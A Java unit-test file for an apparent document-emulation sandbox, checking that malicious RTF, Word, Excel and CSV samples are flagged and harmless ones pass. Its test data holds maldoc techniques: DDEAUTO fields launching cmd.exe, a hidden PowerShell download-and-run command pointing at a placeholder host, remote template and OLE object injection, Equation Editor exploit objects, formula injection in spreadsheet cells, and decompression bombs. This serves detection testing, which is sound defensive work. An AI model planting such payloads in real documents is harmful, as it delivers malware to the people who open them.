package dev.peekaboo.emulation.document;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Emulated;
import dev.peekaboo.emulation.Language;
import dev.peekaboo.emulation.Traces;
import dev.peekaboo.report.EmulationReport;
import dev.peekaboo.report.EmulationReport.Child;
import dev.peekaboo.report.SandboxReport.Completeness;

import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.LongStream;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Harmless documents in the styles of mailed ones, and what they do. */
class DocumentTest {
    private static final String RELATION =
            "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    /**
     * A sample.
     *
     * @param expected findings
     */
    record Sample(String name, Language language, String text, String... expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static Sample rtf(String name, String body, String... expected) {
        return new Sample(name, Language.RTF, "{\\rtf1\\ansi " + body + "}", expected);
    }

    private static Sample office(String name, String part, String content, String... expected) {
        return new Sample(name, Language.OFFICE, zip(part, content), expected);
    }

    private static String zip(String... parts) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(bytes)) {
            out.putNextEntry(new ZipEntry("[Content_Types].xml"));
            out.write("<Types/>".getBytes(StandardCharsets.UTF_8));
            for (int i = 0; i < parts.length; i += 2) {
                out.putNextEntry(new ZipEntry(parts[i]));
                out.write(parts[i + 1].getBytes(StandardCharsets.ISO_8859_1));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toString(StandardCharsets.ISO_8859_1);
    }

    private static String relation(String type, String target) {
        return "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\""
                + RELATION
                + type
                + "\" Target=\""
                + target
                + "\" TargetMode=\"External\"/></Relationships>";
    }

    /** An object as RTF holds it. */
    private static String object(String name, String data, String words) {
        String head = u32(0x501) + u32(2) + u32(name.length() + 1) + name + "\0" + u32(0) + u32(0);
        String hex =
                (head + u32(data.length()) + data)
                        .chars()
                        .mapToObj("%02x"::formatted)
                        .collect(Collectors.joining());
        return "{\\object\\objemb"
                + words
                + "{\\*\\objdata "
                + hex.replaceAll("(.{60})", "$1\n")
                + "}}";
    }

    private static String u32(int value) {
        return ""
                + (char) (value & 255)
                + (char) (value >> 8 & 255)
                + (char) (value >> 16 & 255)
                + (char) (value >>> 24);
    }

    /** A formula as the editor keeps it. */
    private static String equation(String font) {
        return "\u001c\0\0\0\u0002\0"
                + "\0".repeat(22)
                + "\u0003\u0001\u0001\u0003\n"
                + "\n"
                + "\u0008\u0001\u0001"
                + font
                + "\0";
    }

    private static String packed(String name, String data) {
        return "\u0002\0"
                + name
                + "\0C:\\"
                + name
                + "\0\0\0\u0003\0"
                + u32(4)
                + "C:\\\0"
                + u32(data.length())
                + data;
    }

    static String compound(String stream, String content) {
        try (POIFSFileSystem file = new POIFSFileSystem()) {
            file.createDocument(
                    new ByteArrayInputStream(content.getBytes(StandardCharsets.ISO_8859_1)),
                    stream);
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            file.writeFilesystem(bytes);
            return bytes.toString(StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String wide(String text) {
        return new String(text.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1);
    }

    static Stream<Sample> bad_documents_show_what_they_do() {
        return Stream.of(
                rtf(
                        "remote template",
                        "{\\*\\template http://files.example/a/b}",
                        "document_runs_remote_template"),
                rtf(
                        "remote template in numbers",
                        "{\\*\\template \\u104?\\u116?\\u116?\\u112?://files.example/t}",
                        "document_runs_remote_template"),
                rtf(
                        "field",
                        "{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe \"/k calc.exe\"}}",
                        "document_starts_interpreter"),
                rtf(
                        "broken formula",
                        object("Equation.3", equation("A".repeat(60)), ""),
                        "document_exploits_equation_editor"),
                rtf(
                        "formula without a formula",
                        object("Equation.3", compound("\u0001Ole10Native", "shell"), "\\objupdate"),
                        "document_exploits_equation_editor",
                        "document_loads_equation_at_once"),
                rtf(
                        "formula in an object without a name",
                        object("", "xx\u0002\u00ce\u0002\0\0\0\0\0\u00c0\0\0\0\0\0\0\u0046", ""),
                        "document_exploits_equation_editor"),
                rtf(
                        "link to a page",
                        object("OLE2Link", wide("https://files.example/a.hta"), "\\objautlink"),
                        "document_loads_remote_object"),
                office(
                        "remote template",
                        "word/_rels/settings.xml.rels",
                        relation("attachedTemplate", "https://files.example/a.dotm"),
                        "document_runs_remote_template"),
                office(
                        "remote object",
                        "word/_rels/document.xml.rels",
                        relation(
                                "oleObject",
                                "mhtml:https://files.example/a.html!x-usc:https://files.example/a.html"),
                        "document_loads_remote_object"),
                office(
                        "remote object with an exclamation mark",
                        "word/_rels/document.xml.rels",
                        relation("oleObject", "https://files.example/a.html!"),
                        "document_loads_remote_object"),
                office(
                        "field in runs",
                        "word/document.xml",
                        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c powershell -w hidden iwr http://files.example/a.exe -o a.exe; start a.exe\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
                        "document_starts_interpreter",
                        "download_and_run"),
                office(
                        "field in numbers",
                        "word/document.xml",
                        "<w:fldSimple w:instr=\"DDEAUTO QUOTE 99 109 100 46 101 120 101 &quot;/c calc&quot;\"/>",
                        "document_starts_interpreter"),
                office(
                        "linked table",
                        "xl/externalLinks/externalLink1.xml",
                        "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
                        "document_starts_interpreter"),
                new Sample(
                        "cell",
                        Language.TABLE,
                        "name;price\n=cmd|'/c calc'!A0;3\n",
                        "document_starts_interpreter"),
                new Sample(
                        "cell in a formula",
                        Language.TABLE,
                        "ID;P\nC;Y1;X1;K0;E@SUM(1+1)*cmd|'/c powershell calc'!A0\n",
                        "document_starts_interpreter"));
    }

    @ParameterizedTest
    @MethodSource
    void bad_documents_show_what_they_do(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "a.doc");

        assertThat(Emulated.ids(report)).as(Emulated.told(report)).contains(sample.expected());
        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isTrue();
    }

    static Stream<Sample> harmless_documents_are_complete_and_not_bad() {
        return Stream.of(
                rtf("text", "{\\fonttbl{\\f0 Arial;}}\\pard Hello \\b world\\b0\\par"),
                rtf("own template", "{\\*\\template C:\\\\Users\\\\me\\\\Normal.dotm}text"),
                rtf(
                        "template of the company",
                        "{\\*\\template \\\\\\\\fileserver\\\\t\\\\letter.dotx}text"),
                rtf(
                        "link",
                        "{\\field{\\*\\fldinst HYPERLINK \"https://www.example.com/\"}{\\fldrslt x}}"),
                rtf("page number", "{\\field{\\*\\fldinst PAGE \\\\* MERGEFORMAT}{\\fldrslt 1}}"),
                rtf(
                        "formula",
                        object(
                                "Equation.3",
                                compound("Equation Native", equation("Times New Roman")),
                                "")),
                rtf("packed text", object("Package", packed("readme.txt", "hello"), "")),
                rtf(
                        "table of a sheet",
                        "{\\field{\\*\\fldinst DDE Excel.Sheet.12 \"C:\\\\\\\\a.xlsx\" \"R1C1\"}}"),
                office(
                        "text",
                        "word/document.xml",
                        "<w:document><w:p><w:r><w:t>cmd|'/c calc'!A0</w:t></w:r></w:p></w:document>"),
                office(
                        "link",
                        "word/_rels/document.xml.rels",
                        relation("hyperlink", "https://www.example.com/")),
                office(
                        "template of the company",
                        "word/_rels/settings.xml.rels",
                        relation("attachedTemplate", "file:///\\\\fileserver\\t\\letter.dotm")),
                office(
                        "template in the cloud",
                        "word/_rels/settings.xml.rels",
                        relation(
                                "attachedTemplate",
                                "https://example.sharepoint.com/t/letter.dotx")),
                office(
                        "template beside it",
                        "word/_rels/settings.xml.rels",
                        relation("attachedTemplate", "Normal.dotm")),
                office(
                        "picture of the web",
                        "word/_rels/document.xml.rels",
                        relation("image", "https://www.example.com/logo.png")),
                office(
                        "sheet of another book",
                        "xl/externalLinks/_rels/externalLink1.xml.rels",
                        relation("externalLinkPath", "file:///C:\\plans\\a.xlsx")),
                office(
                        "prices of a service",
                        "xl/externalLinks/externalLink1.xml",
                        "<ddeLink ddeService=\"BLP\" ddeTopic=\"M\"/>"),
                office(
                        "fields",
                        "word/document.xml",
                        "<w:fldSimple w:instr=\" PAGE \"/><w:instrText> TOC \\o \"1-3\" </w:instrText>"),
                new Sample("table", Language.TABLE, "a;b|c\n1;'x'!\n=A1+B1;2\n"));
    }

    @ParameterizedTest
    @MethodSource
    void harmless_documents_are_complete_and_not_bad(Sample sample) {
        EmulationReport report = Emulated.run(sample.language(), sample.text(), "a.doc");

        assertThat(Traces.isBad(report.findings())).as(Emulated.told(report)).isFalse();
        assertThat(report.completeness())
                .as(Emulated.told(report))
                .isEqualTo(Completeness.COMPLETE);
    }

    @Test
    void packed_files_come_out_under_their_names() {
        String inRtf = rtf("", object("Package", packed("run.js", "WScript.Quit()"), "")).text();
        String inPackage =
                zip(
                        "word/embeddings/oleObject1.bin",
                        compound(
                                "\u0001Ole10Native", u32(50) + packed("run.js", "WScript.Quit()")));

        for (EmulationReport report :
                List.of(
                        Emulated.run(Language.RTF, inRtf, "a.rtf"),
                        Emulated.run(Language.OFFICE, inPackage, "a.docx"))) {
            assertThat(report.children()).extracting(Child::name).containsExactly("run.js");
            assertThat(report.children().getFirst().content().sizeBytes()).isEqualTo(14);
            assertThat(Emulated.ids(report)).contains("document_packs_program");
        }
    }

    @Test
    void a_document_that_cannot_be_read_is_not_complete() {
        assertThat(Emulated.run(Language.OFFICE, "PK\u0003\u0004", "a.docx").completeness())
                .isNotEqualTo(Completeness.COMPLETE);
        assertThat(Emulated.run(Language.OFFICE, "nothing", "a.docx").completeness())
                .isNotEqualTo(Completeness.COMPLETE);
    }

    static LongStream seeds() {
        return LongStream.range(0, 300);
    }

    @ParameterizedTest
    @MethodSource("seeds")
    void broken_documents_never_break_the_emulation(long seed) {
        Random random = new Random(seed);
        Sample sample =
                bad_documents_show_what_they_do()
                        .skip(random.nextInt(15))
                        .findFirst()
                        .orElseThrow();
        StringBuilder text = new StringBuilder(sample.text());
        for (int i = random.nextInt(20); i >= 0; i--)
            text.setCharAt(random.nextInt(text.length()), (char) random.nextInt(256));
        if (random.nextBoolean()) text.setLength(random.nextInt(text.length()) + 1);

        EmulationReport report = Emulated.run(sample.language(), text.toString(), "a.doc");

        assertThat(report.incomplete())
                .as("seed %d of %s", seed, sample)
                .noneMatch(gap -> gap.contains("the emulation broke"));
    }

    @Test
    void bombs_end_at_their_limits() {
        String many = "{\\object{\\*\\objdata 0105}}".repeat(10_000);
        String deep = "{".repeat(100_000) + "\\fldinst " + "{".repeat(100_000);
        String zeros = zip("word/document.xml", "0".repeat(40 << 20));

        assertThat(Emulated.run(Language.RTF, "{\\rtf1 " + many, "a.rtf").completeness())
                .isNotEqualTo(Completeness.COMPLETE);
        assertThat(Emulated.run(Language.RTF, "{\\rtf1 " + deep, "a.rtf").kind()).isNotEmpty();
        assertThat(Emulated.run(Language.OFFICE, zeros, "a.docx").completeness())
                .isNotEqualTo(Completeness.COMPLETE);
    }
}
